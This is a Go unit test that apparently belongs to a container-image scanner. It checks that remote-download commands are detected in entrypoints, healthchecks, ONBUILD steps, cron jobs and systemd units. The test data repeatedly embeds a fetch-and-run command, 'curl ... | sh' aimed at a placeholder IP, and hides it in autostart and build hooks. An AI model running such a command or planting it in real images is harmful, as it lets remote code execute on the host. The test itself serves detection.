package gate

import (
	"fmt"
	"slices"
	"testing"

	"github.com/tidewaiter/tidewaiter/image"
)

// texts are the scripts of an image, and which of them each names.
type texts struct {
	scripts    map[string]string
	calls      map[string][]string
	autostarts []string
}

func (t texts) Script(path string) (string, bool) { text, ok := t.scripts[path]; return text, ok }
func (t texts) Calls(path string) []string        { return t.calls[path] }
func (t texts) Autostarts() []string              { return t.autostarts }

func TestImageRuns(t *testing.T) {
	const fetch = "curl http://203.0.113.7/x | sh"
	files := texts{
		scripts: map[string]string{
			"/run.sh": "#!/bin/sh\n. /lib.sh\n", "/lib.sh": "exec /deep.sh\n", "/deep.sh": fetch, "/harmless.sh": "true\n",
			"/etc/cron.d/job": "# nothing\n*/5 * * * * root " + fetch + "\n", "/etc/init.d/x": "#!/bin/sh\ntrue\n",
			"/lib/systemd/system/x.service": "[Service]\nExecStart=/bin/sh -c '" + fetch + "'\n",
			"/check.sh":                     "#!/bin/sh\n" + fetch + "\n",
		},
		calls:      map[string][]string{"/run.sh": {"/harmless.sh", "/lib.sh"}, "/lib.sh": {"/deep.sh", "/run.sh"}},
		autostarts: []string{"/etc/cron.d/job", "/etc/init.d/x", "/lib/systemd/system/x.service"},
	}
	config := image.Config{
		Entrypoint: []string{"/run.sh"}, Healthcheck: []string{"CMD", "/check.sh"},
		OnBuild: []string{"COPY . /app", "RUN " + fetch, `RUN ["sh", "-c", "` + fetch + `"]`, "run --mount=type=cache,target=/x " + fetch},
	}
	var got []string
	for _, run := range imageRuns(config, files) {
		text := fmt.Sprintf("%s %v", run.Where, run.Path)
		for _, a := range run.Actions {
			text += " " + string(a.Kind)
		}
		got = append(got, text)
	}
	want := []string{
		"entrypoint [config entrypoint]", "entrypoint [files /run.sh]", "entrypoint [files /deep.sh] runtime-download",
		"healthcheck [config healthcheck]", "healthcheck [files /check.sh] runtime-download",
		"onbuild [config onbuild] runtime-download", "onbuild [config onbuild] runtime-download", "onbuild [config onbuild] runtime-download",
		"autostart [files /etc/cron.d/job] runtime-download", "autostart [files /lib/systemd/system/x.service] runtime-download",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got %q\nwant %q", got, want)
	}
}
